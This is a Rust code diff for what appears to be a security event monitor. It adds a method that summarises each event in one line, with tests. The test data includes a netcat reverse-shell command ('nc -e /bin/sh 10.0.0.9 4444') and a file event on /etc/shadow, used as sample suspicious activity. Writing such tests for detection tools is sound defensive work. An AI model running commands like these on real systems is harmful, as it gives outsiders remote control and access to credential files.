@@ -302,6 +302,41 @@ pub struct Event {
 }
 
 impl Event {
+    /// What the event is about, in one line for lists: the file, the command line (or
+    /// program), the remote or listening address, or the name asked.
+    pub fn subject(&self) -> String {
+        let text = |name: &str| self.text_field(name).unwrap_or_default();
+        let address = |ip: &str, port: &str| match (text(ip), text(port)) {
+            (ip, port) if port.is_empty() => ip,
+            (ip, port) if ip.contains(':') => format!("[{ip}]:{port}"),
+            (ip, port) => format!("{ip}:{port}"),
+        };
+        let first = |names: &[String]| {
+            names
+                .iter()
+                .find(|s| !s.is_empty())
+                .cloned()
+                .unwrap_or_default()
+        };
+        match self.category.as_str() {
+            "process_creation" => first(&[text(field::COMMAND_LINE), text(field::IMAGE)]),
+            "network_connection" => {
+                let remote = if self.fields.get(field::INITIATED) == Some(&Value::Bool(false)) {
+                    address(field::SOURCE_IP, field::SOURCE_PORT)
+                } else {
+                    address(field::DESTINATION_IP, field::DESTINATION_PORT)
+                };
+                match text(field::DESTINATION_HOSTNAME) {
+                    name if name.is_empty() => remote,
+                    name => format!("{remote} ({name})"),
+                }
+            }
+            "listening_socket" => address(field::LOCAL_IP, field::LOCAL_PORT),
+            "dns_query" => text(field::QUERY_NAME),
+            _ => first(&[text(field::TARGET_FILENAME), text(field::IMAGE)]),
+        }
+    }
+
     /// The field `name` as text, if it is a string.
     pub fn str_field(&self, name: &str) -> Option<&str> {
         self.fields.get(name).and_then(Value::as_str)
@@ -345,6 +380,69 @@ mod tests {
         let again: Event = serde_json::from_str(&serde_json::to_string(&event).unwrap()).unwrap();
         assert_eq!(again.fields["FutureField"]["nested"][1], 2);
         assert_eq!(again, event);
+    }
+
+    #[test]
+    fn the_subject_says_what_each_kind_of_event_is_about() {
+        let subject = |category: &str, fields: Value| {
+            let mut event: Event = serde_json::from_value(fields).unwrap();
+            event.category = category.into();
+            event.subject()
+        };
+        let base = |more: Value| {
+            let mut v = serde_json::json!({"agent_id": "a", "hostname": "h", "seq": 1, "ts": 1,
+                "category": "x"});
+            v.as_object_mut()
+                .unwrap()
+                .extend(more.as_object().unwrap().clone());
+            v
+        };
+        assert_eq!(
+            subject(
+                "process_creation",
+                base(
+                    serde_json::json!({"Image": "/bin/nc", "CommandLine": "nc -e /bin/sh 10.0.0.9 4444"})
+                )
+            ),
+            "nc -e /bin/sh 10.0.0.9 4444"
+        );
+        assert_eq!(
+            subject(
+                "process_creation",
+                base(serde_json::json!({"Image": "/bin/true", "Incomplete": true}))
+            ),
+            "/bin/true"
+        );
+        assert_eq!(
+            subject(
+                "network_connection",
+                base(serde_json::json!({"Initiated": true,
+                "DestinationIp": "2001:db8::1", "DestinationPort": 443, "DestinationHostname": "x.example"}))
+            ),
+            "[2001:db8::1]:443 (x.example)"
+        );
+        assert_eq!(
+            subject(
+                "network_connection",
+                base(serde_json::json!({"Initiated": false,
+                "SourceIp": "203.0.113.7", "SourcePort": 51000, "DestinationIp": "10.0.0.1", "DestinationPort": 22}))
+            ),
+            "203.0.113.7:51000"
+        );
+        assert_eq!(
+            subject(
+                "listening_socket",
+                base(serde_json::json!({"LocalIp": "0.0.0.0", "LocalPort": 31337}))
+            ),
+            "0.0.0.0:31337"
+        );
+        assert_eq!(
+            subject(
+                "file_event",
+                base(serde_json::json!({"TargetFilename": "/etc/shadow"}))
+            ),
+            "/etc/shadow"
+        );
     }
 
     #[test]
